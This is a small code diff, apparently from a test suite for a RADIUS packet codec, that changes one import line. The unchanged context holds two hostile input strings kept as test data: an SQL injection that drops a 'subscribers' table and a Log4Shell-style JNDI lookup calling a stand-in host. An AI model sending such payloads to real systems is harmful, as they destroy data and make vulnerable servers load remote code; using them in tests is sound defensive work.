@@ -23,7 +23,7 @@ from abuse import (
 )
 from world import SECRET
 
-from fastcodec.message import RadiusPacket
+from fastcodec import RadiusPacket
 
 SQL = "'; DROP TABLE subscribers; --"
 DNS = "${jndi:ldap://x.example/a}"
